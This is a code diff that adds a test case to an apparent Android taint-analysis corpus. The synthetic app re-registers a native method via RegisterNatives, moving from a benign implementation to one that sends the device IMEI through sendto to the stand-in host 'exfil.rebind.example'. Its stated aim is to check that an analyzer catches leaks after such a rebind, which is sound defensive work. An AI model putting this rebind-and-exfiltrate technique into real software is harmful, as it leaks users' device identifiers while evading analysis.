@@ -635,6 +635,113 @@ host:
 	}
 }
 
+// RebindApp attacks per-method specialization state with RegisterNatives
+// re-registration: `process` starts bound to a benign identity implementation
+// and is called in a loop until the analyzer's trace-fusion layer compiles the
+// crossing into a fused chain. A later native call then re-registers `process`
+// to a second implementation that leaks its argument through sendto. A sound
+// analyzer must deopt the stale chain on the rebind (the translation epoch
+// bump) and still catch the leak on the very next crossing; an unsound one
+// would keep dispatching the fused benign chain.
+func RebindApp() *App {
+	const cls = "Lcom/hostile/rebind/Main;"
+	return &App{
+		Name:        "rebind",
+		Desc:        "RegisterNatives re-registration: benign impl gets hot+fused, rebind swaps in a leaking impl",
+		Case:        "2",
+		EntryClass:  cls,
+		EntryMethod: "run",
+		ExpectTag:   taint.IMEI,
+		ExpectSink:  "sendto",
+		install: func(sys *core.System) error {
+			prog, err := sys.VM.LoadNativeLib("librebind.so", `
+; jstring process(JNIEnv*, jclass, jstring) — impl A: identity, no taint ops
+Java_processA:
+	PUSH {R4, LR}
+	MOV R0, R2
+	POP {R4, PC}
+
+; jstring process(JNIEnv*, jclass, jstring) — impl B: leak via sendto
+Java_processB:
+	PUSH {R4, R5, R6, R7, LR}
+	MOV R4, R0          ; env
+	MOV R7, R2          ; jstring
+	MOV R1, R2
+	MOV R2, #0
+	BL GetStringUTFChars
+	MOV R5, R0
+	BL strlen
+	MOV R6, R0
+	MOV R0, #2
+	MOV R1, #1
+	MOV R2, #0
+	BL socket
+	MOV R1, R5
+	MOV R2, R6
+	LDR R3, =host
+	BL sendto
+	MOV R0, R7
+	POP {R4, R5, R6, R7, PC}
+
+; void rebind(JNIEnv*, jclass) — RegisterNatives(process -> Java_processB)
+Java_rebind:
+	PUSH {R4, LR}
+	MOV R4, R0
+	LDR R1, =cls_name
+	BL FindClass
+	MOV R1, R0
+	MOV R0, R4
+	LDR R2, =njm
+	MOV R3, #1
+	BL RegisterNatives
+	POP {R4, PC}
+
+cls_name:
+	.asciz "com/hostile/rebind/Main"
+pname:
+	.asciz "process"
+psig:
+	.asciz "(Ljava/lang/String;)Ljava/lang/String;"
+host:
+	.asciz "exfil.rebind.example"
+	.align 4
+njm:
+	.word pname, psig, Java_processB
+`)
+			if err != nil {
+				return err
+			}
+			cb := dex.NewClass(cls)
+			cb.NativeMethod("process", "LL", dex.AccStatic, 0)
+			cb.NativeMethod("rebind", "V", dex.AccStatic, 0)
+			addChecksum(cb)
+			cb.Method("run", "V", dex.AccStatic, 3).
+				InvokeStatic(cls, "checksum", "I").
+				InvokeStatic("Landroid/telephony/TelephonyManager;", "getDeviceId", "L").
+				MoveResult(0).
+				// Hot loop: five crossings of the benign impl, enough to fuse.
+				Const(1, 5).
+				Label("loop").
+				IfZ(1, dex.Le, "swap").
+				InvokeStatic(cls, "process", "LL", 0).
+				MoveResult(2).
+				BinLit(dex.Sub, 1, 1, 1).
+				Goto("loop").
+				Label("swap").
+				InvokeStatic(cls, "rebind", "V").
+				InvokeStatic(cls, "process", "LL", 0).
+				MoveResult(2).
+				ReturnVoid().
+				Done()
+			sys.VM.RegisterClass(cb.Build())
+			if err := sys.VM.BindNative(cls, "process", prog, "Java_processA"); err != nil {
+				return err
+			}
+			return sys.VM.BindNative(cls, "rebind", prog, "Java_rebind")
+		},
+	}
+}
+
 // --- hostile corpus ----------------------------------------------------------
 //
 // The market study's operating assumption is that native code is adversarial.
